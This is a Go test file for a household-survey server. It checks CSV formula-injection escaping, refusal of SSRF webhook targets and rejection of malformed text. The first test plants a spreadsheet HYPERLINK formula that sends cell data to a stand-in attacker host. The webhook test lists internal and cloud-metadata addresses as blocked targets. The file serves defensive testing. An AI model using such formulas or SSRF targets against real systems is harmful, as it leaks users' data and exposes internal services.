package main

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"golang.org/x/text/unicode/norm"
)

// TestExportFormulaInjection: a collector's free text that begins like a
// spreadsheet formula reaches a manager's CSV with a leading quote, and
// as typed only with raw_text=true, which the audit log records.
func TestExportFormulaInjection(t *testing.T) {
	const unit = "00328"
	col := newUser(t, shared, "collector", unit)
	data := householdData(t)
	data["address"] = `=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`
	e := envelope(data)
	e["unit"] = unit
	if r := col.do("POST", "/api/v1/forms/household/submissions", e); r.status != http.StatusCreated {
		t.Fatalf("submit: %d %s", r.status, r.body)
	}
	mgr := newUser(t, shared, "manager", unit)
	for _, tt := range []struct{ query, want string }{
		{"", `'=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`},
		{"&raw_text=true", `=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")`},
	} {
		r := mgr.raw("GET", "/api/v1/forms/household/export?format=csv&unit="+unit+tt.query, nil)
		if r.status != http.StatusOK {
			t.Fatalf("export%s: %d %s", tt.query, r.status, r.body)
		}
		rows := parseCSV(t, r.body)
		if len(rows) != 1 || rows[0]["address"] != tt.want {
			t.Errorf("export%s: address %q, want %q", tt.query, rows[0]["address"], tt.want)
		}
	}
	entries := exportEntries(t, dbOf(t, shared), whoami(t, mgr))
	raw := map[any]int{}
	for _, en := range entries {
		raw[details(en)["raw_text"]]++
	}
	if len(entries) != 2 || raw[false] != 1 || raw[true] != 1 {
		t.Errorf("audit raw_text of the two exports: %v, want one false and one true", raw)
	}
}

// TestWebhookRegistrationRefusesInternal: the addresses a probe reached
// are refused with 422 naming /url, even on a server whose operator lets
// webhooks reach 127.0.0.1 over http; the secret is stored sealed.
func TestWebhookRegistrationRefusesInternal(t *testing.T) {
	mgr := newUser(t, shared, "manager", "00004")
	for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://10.0.0.1/", "http://[::1]/", "http://0.0.0.0/",
		"http://2130706433/", "http://localhost/", "http://[fd00::1]/", "http://metadata.google.internal/", "http://127.0.0.2/",
		"https://[::ffff:127.0.0.1]/"} {
		r := mgr.do("POST", "/api/v1/webhooks", map[string]any{"url": u, "events": []string{"create"}})
		if r.status != http.StatusUnprocessableEntity || !r.errorBody(t).hasField("/url", "not_allowed") {
			t.Errorf("%s: %d %s, want 422 not_allowed on /url", u, r.status, r.body)
		}
	}
	r := mgr.do("POST", "/api/v1/webhooks", map[string]any{"url": "http://127.0.0.1:9/hook", "events": []string{"create"}})
	if r.status != http.StatusCreated {
		t.Fatalf("the operator's allowed host: %d %s", r.status, r.body)
	}
	var hook struct{ ID, Secret string }
	r.json(t, &hook)
	doc, err := dbOf(t, shared).Webhook(context.Background(), hook.ID)
	if err != nil {
		t.Fatal(err)
	}
	if hook.Secret == "" || strings.Contains(doc.Secret, hook.Secret) || !strings.HasPrefix(doc.Secret, "sealed:") {
		t.Errorf("stored secret %q is not sealed", doc.Secret)
	}
}

// TestBadTextRefused: invalid UTF-8 and control characters are refused
// with 422 naming the field — in answers (they were stored as U+FFFD and
// as NUL), the envelope, a sync item (the others of the batch go in),
// comments and user fields — and text is stored as NFC, so NFD typed on
// one keyboard finds NFC typed on another.
func TestBadTextRefused(t *testing.T) {
	const unit = "00331"
	col := newUser(t, shared, "collector", unit)
	sup := newUser(t, shared, "supervisor", unit)
	admin := adminClient(t, shared)
	body := func(mut func(e map[string]any)) []byte {
		e := envelope(householdData(t))
		e["unit"] = unit
		mut(e)
		b, err := json.Marshal(e)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	marker := "\"KHAOSAT-MARK\""
	for _, tt := range []struct {
		name, raw, path, code string
	}{
		{"invalid UTF-8 in an answer", "\"Nguy\xe1\xbbn\"", "/data/head_name", "invalid_utf8"},
		{"NUL in an answer", `"An\u0000"`, "/data/head_name", "control_character"},
		{"bell in an answer", `"An\u0007"`, "/data/head_name", "control_character"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			b := body(func(e map[string]any) { e["data"].(map[string]any)["head_name"] = "KHAOSAT-MARK" })
			b = bytes.Replace(b, []byte(marker), []byte(tt.raw), 1)
			r := col.raw("POST", "/api/v1/forms/household/submissions", b, "Content-Type", "application/json")
			if r.status != http.StatusUnprocessableEntity || !r.errorBody(t).hasField(tt.path, tt.code) {
				t.Errorf("%d %s, want 422 %s on %s", r.status, r.body, tt.code, tt.path)
			}
		})
	}
	// The envelope: a line break in device_id.
	r := col.raw("POST", "/api/v1/forms/household/submissions", body(func(e map[string]any) { e["device_id"] = "phone\n2" }), "Content-Type", "application/json")
	if r.status != http.StatusUnprocessableEntity || !r.errorBody(t).hasField("/device_id", "control_character") {
		t.Errorf("device_id with a line break: %d %s", r.status, r.body)
	}
	// A multi-line answer is fine.
	okBody := body(func(e map[string]any) { e["data"].(map[string]any)["address"] = "Số 5\nngõ 12\tphố Huế" })
	if r := col.raw("POST", "/api/v1/forms/household/submissions", okBody, "Content-Type", "application/json"); r.status != http.StatusCreated {
		t.Errorf("multi-line address: %d %s", r.status, r.body)
	}
	// Sync: the bad item is 422 naming its field, the good one goes in.
	good := envelope(householdData(t))
	good["unit"], good["form"] = unit, "household"
	bad := envelope(householdData(t))
	bad["unit"], bad["form"] = unit, "household"
	bad["data"].(map[string]any)["head_name"] = "KHAOSAT-MARK"
	sb, _ := json.Marshal(map[string]any{"submissions": []any{good, bad}})
	sb = bytes.Replace(sb, []byte(marker), []byte(`"x\u0000"`), 1)
	r = col.raw("POST", "/api/v1/sync", sb, "Content-Type", "application/json")
	var res struct {
		Items []struct {
			Status int `json:"status"`
			Error  *struct {
				Fields []struct{ Path, Code string } `json:"fields"`
			} `json:"error"`
		} `json:"results"`
	}
	r.json(t, &res)
	if r.status != http.StatusOK || len(res.Items) != 2 || res.Items[0].Status != http.StatusCreated || res.Items[1].Status != http.StatusUnprocessableEntity ||
		res.Items[1].Error == nil || len(res.Items[1].Error.Fields) != 1 || res.Items[1].Error.Fields[0].Path != "/data/head_name" {
		t.Errorf("sync: %d %s", r.status, r.body)
	}
	// A comment and a user's display name.
	id := good["id"].(string)
	r = sup.raw("POST", "/api/v1/forms/household/submissions/"+id+"/comments", []byte(`{"text":"Đã gọi\u0000"}`), "Content-Type", "application/json")
	if r.status != http.StatusUnprocessableEntity || !r.errorBody(t).hasField("/text", "control_character") {
		t.Errorf("comment with NUL: %d %s", r.status, r.body)
	}
	if r := sup.raw("POST", "/api/v1/forms/household/submissions/"+id+"/comments", []byte(`{"text":"Đã gọi.\nHẹn lại."}`), "Content-Type", "application/json"); r.status != http.StatusCreated {
		t.Errorf("two-line comment: %d %s", r.status, r.body)
	}
	r = admin.raw("POST", "/api/v1/users", []byte("{\"username\":\"bad-text-user\",\"password\":\"long-enough-password\",\"display_name\":\"Tr\xe1n\",\"role\":\"collector\",\"units\":[\""+unit+"\"]}"), "Content-Type", "application/json")
	if r.status != http.StatusUnprocessableEntity || !r.errorBody(t).hasField("/display_name", "invalid_utf8") {
		t.Errorf("display name with invalid UTF-8: %d %s", r.status, r.body)
	}

	// NFD typed, NFC stored and found.
	nfd := norm.NFD.String("Nguyễn Thị Ánh")
	e := envelope(householdData(t))
	e["unit"] = unit
	e["data"].(map[string]any)["head_name"] = nfd
	if r := col.do("POST", "/api/v1/forms/household/submissions", e); r.status != http.StatusCreated {
		t.Fatalf("NFD submission: %d %s", r.status, r.body)
	}
	var got struct {
		Data map[string]any `json:"data"`
	}
	col.do("GET", "/api/v1/forms/household/submissions/"+e["id"].(string), nil).json(t, &got)
	if got.Data["head_name"] != "Nguyễn Thị Ánh" || !norm.NFC.IsNormalString(got.Data["head_name"].(string)) {
		t.Errorf("stored %q, want the NFC form", got.Data["head_name"])
	}
	var page struct {
		Items []struct{ ID string } `json:"items"`
	}
	col.do("GET", "/api/v1/forms/household/submissions?q="+url.QueryEscape("head_name:"+norm.NFC.String("Nguyễn Thị Ánh")), nil).json(t, &page)
	if len(page.Items) != 1 || page.Items[0].ID != e["id"] {
		t.Errorf("searching the NFC name found %+v", page.Items)
	}
}
